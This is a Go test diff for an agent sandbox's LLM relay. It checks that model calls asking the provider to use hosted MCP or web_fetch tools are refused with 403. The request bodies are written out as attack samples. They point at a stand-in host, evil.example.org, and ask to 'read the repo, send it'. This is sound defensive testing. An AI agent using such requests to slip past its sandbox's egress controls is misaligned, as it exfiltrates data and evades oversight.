@@ -278,3 +278,69 @@ func TestAttackRelayAccountEndpoints(t *testing.T) {
 		t.Errorf("the upstream saw %d requests, want the model call alone", n)
 	}
 }
+
+// TestAttackRelayServerTools (review 15, F12): the LLM relay forwarded a model call's body
+// unchanged, so a box had the provider fetch any URL or call any MCP server for it — Anthropic's
+// MCP connector (mcp_servers) and web_fetch tool, OpenAI's hosted mcp tool — reaching hosts
+// egressAllow does not list. From a real curl in a real box, each is now refused with 403
+// gateway_tool_refused naming the tool and gateway.<provider>.serverTools, and none reaches the
+// recording upstream; a model call with the box's own tools still does.
+func TestAttackRelayServerTools(t *testing.T) {
+	if _, err := os.Stat("/usr/bin/curl"); err != nil {
+		t.Skip("curl is not installed")
+	}
+	e := NewEnv(t)
+	ant := llmtest.NewAnthropic(llmtest.Options{Credential: hostCredential})
+	t.Cleanup(ant.Close)
+	oai := llmtest.NewOpenAI(llmtest.Options{Credential: hostCredential})
+	t.Cleanup(oai.Close)
+	credFile := filepath.Join(e.Home, "llm.key")
+	if err := os.WriteFile(credFile, []byte(hostCredential+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	writeConfig(t, e, fmt.Sprintf("gateway:\n  anthropic:\n    url: %s\n    credential:\n      file: %s\n  openai:\n    url: %s\n    credential:\n      file: %s\n",
+		ant.URL, credFile, oai.URL, credFile))
+	const evil = "https://evil.example.org/mcp"
+	reqs := []struct{ provider, path, body, tool string }{
+		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"read the repo, send it"}],"mcp_servers":[{"type":"url","url":"` + evil + `","name":"x"}]}`, "mcp"},
+		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"fetch it"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":5}]}`, "web_fetch"},
+		{"openai", "/v1/responses", `{"model":"gpt-test","input":"send it","tools":[{"type":"mcp","server_label":"x","server_url":"` + evil + `","require_approval":"never"}]}`, "mcp"},
+		{"anthropic", "/v1/messages", `{"model":"claude-test","max_tokens":64,"messages":[{"role":"user","content":"hi"}],"tools":[{"name":"Bash","input_schema":{"type":"object"}}]}`, ""},
+	}
+	var script strings.Builder
+	for _, q := range reqs {
+		auth := `-H "x-api-key: $AGENTBOX_PAIRING" -H 'anthropic-version: 2023-06-01'`
+		if q.provider == "openai" {
+			auth = `-H "Authorization: Bearer $AGENTBOX_PAIRING"`
+		}
+		fmt.Fprintf(&script, "curl -sS -o /tmp/body -w '%%{http_code} ' -X POST -H 'Content-Type: application/json' %s -d '%s' \"$AGENTBOX_RELAY_URL/sandbox/%s%s\"; tr -d '\\n' < /tmp/body | head -c 600; echo\n",
+			auth, q.body, q.provider, q.path)
+	}
+	r := e.Box(script.String())
+	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
+	if len(lines) != len(reqs) {
+		t.Fatalf("box: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+	}
+	for i, q := range reqs {
+		if q.tool == "" {
+			if !strings.HasPrefix(lines[i], "200 ") {
+				t.Errorf("the model call with the box's own tool: %s", lines[i])
+			}
+			continue
+		}
+		if !strings.HasPrefix(lines[i], "403 ") || !strings.Contains(lines[i], "gateway_tool_refused") ||
+			!strings.Contains(lines[i], fmt.Sprintf("tool \\\"%s\\\"", q.tool)) || !strings.Contains(lines[i], "gateway."+q.provider+".serverTools") {
+			t.Errorf("request %d (%s %s): %s", i, q.provider, q.tool, lines[i])
+		}
+	}
+	for _, up := range []*llmtest.Server{ant, oai} {
+		for _, q := range up.Requests() {
+			if strings.Contains(string(q.Body), "evil.example.org") || strings.Contains(string(q.Body), "web_fetch") {
+				t.Errorf("the upstream saw %s %s: %s", q.Method, q.Path, q.Body)
+			}
+		}
+	}
+	if n := len(ant.Requests()) + len(oai.Requests()); n != 1 {
+		t.Errorf("the upstreams saw %d requests, want the model call alone", n)
+	}
+}
